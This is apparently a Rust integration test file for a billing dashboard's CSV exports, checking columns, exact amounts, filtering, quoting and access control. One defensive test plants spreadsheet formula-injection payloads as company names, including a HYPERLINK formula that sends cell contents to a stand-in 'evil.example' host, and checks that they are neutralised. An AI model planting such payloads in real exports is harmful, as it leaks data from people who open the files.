//! The CSV exports, parsed back with the csv crate and compared with the sandbox's numbers.

use std::collections::{BTreeMap, BTreeSet};
use std::str::FromStr;

use reqwest::StatusCode;
use rust_decimal::Decimal;
use spendboard::store::search_name;
use uuid::Uuid;

use crate::drilldown::{SandboxReader, customers, subscription_of};
use crate::helpers::{READER, TestApp, spawn_app};
use crate::truth;

/// An export as the browser gets it: its header row and its records by column name.
struct Csv {
    header: Vec<String>,
    rows: Vec<BTreeMap<String, String>>,
    raw: String,
}

impl Csv {
    fn column(&self, name: &str) -> Vec<&str> {
        self.rows.iter().map(|r| r[name].as_str()).collect()
    }

    fn decimals(&self, name: &str) -> Vec<Decimal> {
        self.column(name)
            .into_iter()
            .map(|v| Decimal::from_str(v).unwrap_or_else(|e| panic!("{name} = {v:?}: {e}")))
            .collect()
    }
}

/// GETs `path`, checks it is a UTF-8 CSV attachment named `filename_prefix...csv`, and
/// parses it.
async fn get_csv(app: &TestApp, path: &str, filename_prefix: &str) -> Csv {
    let response = app.get(path).await;
    assert_eq!(response.status(), StatusCode::OK, "GET {path}");
    let headers = response.headers().clone();
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    let disposition = headers["content-disposition"].to_str().unwrap().to_owned();
    assert!(
        disposition.starts_with(&format!("attachment; filename=\"{filename_prefix}"))
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    let raw = String::from_utf8(response.bytes().await.unwrap().to_vec()).expect("UTF-8");
    let mut reader = csv::Reader::from_reader(raw.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| {
            let r = r.expect("a well-formed record with as many fields as the header");
            header
                .iter()
                .cloned()
                .zip(r.iter().map(str::to_owned))
                .collect()
        })
        .collect();
    Csv { header, rows, raw }
}

#[tokio::test]
async fn the_dashboard_csv_has_every_customer_with_the_sandboxs_exact_amounts() {
    let app = spawn_app().await;
    app.sign_in_and_load(READER).await;
    let records = truth::usage_records(&app).await;
    let csv = get_csv(&app, "/customers.csv", "customers-").await;
    assert_eq!(
        csv.header,
        [
            "customer_id",
            "company_name",
            "domain",
            "plan",
            "currency",
            "spend",
            "usd_spend",
            "budget",
            "percent_used",
            "status",
            "projected_spend",
            "budget_crossing_day",
            "last_modified",
            "data_as_of"
        ]
    );
    assert_eq!(
        csv.rows.len(),
        records.len(),
        "every customer, not one page of 50"
    );
    assert!(records.len() > 50);
    for record in &records {
        let row = csv
            .rows
            .iter()
            .find(|r| r["customer_id"] == record.id.to_lowercase())
            .unwrap_or_else(|| panic!("{} is exported", record.name));
        assert_eq!(row["company_name"], record.name, "names stay intact");
        assert_eq!(row["currency"], record.currency);
        assert_eq!(Decimal::from_str(&row["spend"]).unwrap(), record.total_cost);
        assert!(!row["spend"].contains(','), "no grouping: {}", row["spend"]);
        match record.budget {
            Some(budget) => assert_eq!(Decimal::from_str(&row["budget"]).unwrap(), budget),
            None => assert_eq!(row["budget"], ""),
        }
        let snapshot = app
            .store()
            .snapshot(&record.id.parse().unwrap())
            .await
            .unwrap()
            .unwrap();
        let projected = snapshot
            .forecast
            .as_ref()
            .map(|f| f.projected_total.amount().to_string());
        assert_eq!(
            row["projected_spend"],
            projected.unwrap_or_default(),
            "as on the dashboard"
        );
        let crossing = snapshot.forecast.and_then(|f| f.crosses_budget_on);
        assert_eq!(
            row["budget_crossing_day"],
            crossing.map(|d| d.to_string()).unwrap_or_default()
        );
    }
    assert!(
        csv.column("company_name")
            .iter()
            .any(|n| n.contains('&') && n.contains('\'')),
        "a name with & and a quote is in the data"
    );
    let names = csv.column("company_name");
    let mut sorted = names.clone();
    sorted.sort_by_key(|n| search_name(n));
    assert_eq!(names, sorted, "the dashboard's default order: by name");
}

#[tokio::test]
async fn the_dashboard_csv_keeps_the_dashboards_filter_and_sort() {
    let app = spawn_app().await;
    app.sign_in_and_load(READER).await;
    let records = truth::usage_records(&app).await;

    let csv = get_csv(
        &app,
        "/customers.csv?status=over&sort=spend&dir=desc&page=2",
        "customers-",
    )
    .await;
    let over: BTreeSet<String> = records
        .iter()
        .filter(|r| r.budget.is_some_and(|b| r.total_cost >= b))
        .map(|r| r.id.to_lowercase())
        .collect();
    assert!(!over.is_empty());
    let exported: BTreeSet<String> = csv
        .column("customer_id")
        .into_iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        exported, over,
        "all over-budget customers, whatever the page"
    );
    assert!(csv.column("status").iter().all(|s| *s == "over"));
    let spend = csv.decimals("spend");
    assert!(
        spend.windows(2).all(|w| w[0] >= w[1]),
        "by spend, descending: {spend:?}"
    );

    let csv = get_csv(
        &app,
        "/customers.csv?q=%26&sort=name&dir=desc",
        "customers-",
    )
    .await;
    let with_ampersand = records.iter().filter(|r| r.name.contains('&')).count();
    assert!(with_ampersand > 0);
    assert_eq!(csv.rows.len(), with_ampersand);
    let names = csv.column("company_name");
    let mut sorted = names.clone();
    sorted.sort_by_key(|n| std::cmp::Reverse(search_name(n)));
    assert_eq!(names, sorted, "by name, descending");
}

#[tokio::test]
async fn a_name_with_a_comma_and_quotes_stays_one_field() {
    let app = spawn_app().await;
    app.sign_in_and_load(READER).await;
    let mut customer = customers(&app).await.remove(0);
    let name = "Smith, \"Jones\" & Co\nLtd";
    customer.company_name = name.to_owned();
    app.store()
        .upsert_snapshots(&[customer.clone()])
        .await
        .unwrap();

    let csv = get_csv(&app, "/customers.csv?q=jones", "customers-").await;
    assert_eq!(csv.rows.len(), 1);
    assert_eq!(csv.rows[0]["company_name"], name);
    assert_eq!(csv.rows[0]["customer_id"], customer.customer_id.to_string());
    assert!(
        csv.raw.contains("\"Smith, \"\"Jones\"\" & Co\nLtd\""),
        "quoted as RFC 4180 says: {}",
        csv.raw
    );
}

/// Security finding 3: names starting with `=`, `+`, `-`, `@`, tab or CR were exported
/// verbatim, so a spreadsheet would run them as formulas.
#[tokio::test]
async fn formula_like_names_are_neutralised_and_amounts_stay_exact() {
    let app = spawn_app().await;
    app.sign_in_and_load(READER).await;
    let all = customers(&app).await;
    let attacks = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Zformula\")",
        "+Zformula+1",
        "-Zformula-1",
        "@Zformula(A1)",
        "\tZformula",
        "\rZformula",
    ];
    for (customer, name) in all.iter().zip(attacks) {
        let mut customer = customer.clone();
        customer.company_name = name.to_owned();
        app.store().upsert_snapshots(&[customer]).await.unwrap();
    }

    let csv = get_csv(&app, "/customers.csv?q=zformula", "customers-").await;
    assert_eq!(csv.rows.len(), attacks.len());
    for row in &csv.rows {
        let name = &row["company_name"];
        assert!(
            name.starts_with('\'') && attacks.contains(&&name[1..]),
            "neutralised: {name:?}"
        );
        let spend = &row["spend"];
        assert!(!spend.starts_with('\''), "{spend}");
        Decimal::from_str(spend).expect("an exact decimal");
    }
    let subscriptions = get_csv(
        &app,
        &format!("/customers/{}/subscriptions.csv", all[0].customer_id),
        "subscriptions-",
    )
    .await;
    for row in &subscriptions.rows {
        assert_eq!(row["company_name"], format!("'{}", attacks[0]));
    }
}

#[tokio::test]
async fn a_customers_subscriptions_csv_matches_the_sandbox_without_opening_the_customer_first() {
    let app = spawn_app().await;
    app.sign_in_and_load(READER).await;
    let sandbox = SandboxReader::new(&app).await;
    let mut chosen = None;
    for customer in customers(&app).await {
        let (subscriptions, _) = sandbox
            .items(&format!(
                "v1/customers/{}/subscriptions/usagerecords",
                customer.customer_id
            ))
            .await;
        if subscriptions.len() >= 2 {
            chosen = Some((customer, subscriptions));
            break;
        }
    }
    let (customer, subscriptions) = chosen.expect("a customer with two subscriptions");
    let id = customer.customer_id;
    let csv = get_csv(
        &app,
        &format!("/customers/{id}/subscriptions.csv"),
        &format!("subscriptions-{id}"),
    )
    .await;
    assert_eq!(csv.rows.len(), subscriptions.len());
    for s in &subscriptions {
        let row = csv
            .rows
            .iter()
            .find(|r| r["subscription_id"] == s.str("resourceId"))
            .unwrap();
        assert_eq!(
            Decimal::from_str(&row["spend"]).unwrap(),
            s.decimal("totalCost")
        );
        assert_eq!(row["offer_id"], s.str("offerId"));
        assert_eq!(row["currency"], customer.currency().code());
        assert_eq!(row["company_name"], customer.company_name);
    }
}

#[tokio::test]
async fn a_subscriptions_resources_and_meters_csv_match_the_sandbox() {
    let app = spawn_app().await;
    app.sign_in_and_load(READER).await;
    let sandbox = SandboxReader::new(&app).await;
    let (customer, subscription) = subscription_of(&app, &sandbox, true).await;
    let id = customer.customer_id;
    let base = format!("v1/customers/{id}/subscriptions/{subscription}");
    let summary = sandbox.one(&format!("{base}/usagesummary")).await;
    let (resources, _) = sandbox.items(&format!("{base}/resourceusagerecords")).await;
    let (meters, _) = sandbox.items(&format!("{base}/meterusagerecords")).await;

    let csv = get_csv(
        &app,
        &format!("/customers/{id}/subscriptions/{subscription}/resources.csv"),
        &format!("resources-{subscription}"),
    )
    .await;
    assert_eq!(csv.rows.len(), resources.len());
    assert_eq!(
        csv.decimals("spend").iter().sum::<Decimal>(),
        summary.decimal("totalCost"),
        "the resources add up to the subscription's spend"
    );
    let spend = csv.decimals("spend");
    assert!(
        spend.windows(2).all(|w| w[0] >= w[1]),
        "most expensive first"
    );
    for r in &resources {
        let row = csv
            .rows
            .iter()
            .find(|row| row["resource_uri"] == r.str("resourceUri"))
            .unwrap();
        assert_eq!(
            Decimal::from_str(&row["spend"]).unwrap(),
            r.decimal("totalCost")
        );
        assert_eq!(row["entitlement_id"], r.str("entitlementId"));
        assert_eq!(row["resource_group"], r.str("resourceGroupName"));
        assert_eq!(row["currency"], summary.str("currencyCode"));
    }

    let csv = get_csv(
        &app,
        &format!("/customers/{id}/subscriptions/{subscription}/meters.csv"),
        &format!("meters-{subscription}"),
    )
    .await;
    assert_eq!(csv.rows.len(), meters.len());
    for m in &meters {
        let row = csv
            .rows
            .iter()
            .find(|row| row["meter_id"] == m.str("meterId"))
            .unwrap();
        assert_eq!(
            Decimal::from_str(&row["quantity"]).unwrap(),
            m.decimal("quantityUsed")
        );
        assert_eq!(row["unit"], m.str("unit"));
        assert_eq!(row["category"], m.str("category"));
        assert_eq!(
            Decimal::from_str(&row["spend"]).unwrap(),
            m.decimal("totalCost")
        );
    }
}

#[tokio::test]
async fn a_reader_can_export_but_bad_ids_are_not_found_and_strangers_must_sign_in() {
    let app = spawn_app().await;
    let stranger = app.get("/customers.csv").await;
    assert_eq!(stranger.status(), StatusCode::SEE_OTHER);

    app.sign_in_and_load(READER).await;
    let sandbox = SandboxReader::new(&app).await;
    let (customer, subscription) = subscription_of(&app, &sandbox, false).await;
    let id = customer.customer_id;
    for path in [
        "/customers.csv".to_owned(),
        format!("/customers/{id}/subscriptions.csv"),
        format!("/customers/{id}/subscriptions/{subscription}/resources.csv"),
        format!("/customers/{id}/subscriptions/{subscription}/meters.csv"),
    ] {
        assert_eq!(app.get(&path).await.status(), StatusCode::OK, "{path}");
    }
    let unknown = Uuid::new_v4();
    for path in [
        "/customers/not-a-guid/subscriptions.csv".to_owned(),
        format!("/customers/{unknown}/subscriptions.csv"),
        format!("/customers/{id}/subscriptions/not-a-guid/resources.csv"),
        format!("/customers/{id}/subscriptions/{unknown}/meters.csv"),
        format!("/customers/{unknown}/subscriptions/{subscription}/resources.csv"),
    ] {
        assert_eq!(
            app.get(&path).await.status(),
            StatusCode::NOT_FOUND,
            "{path}"
        );
    }
}
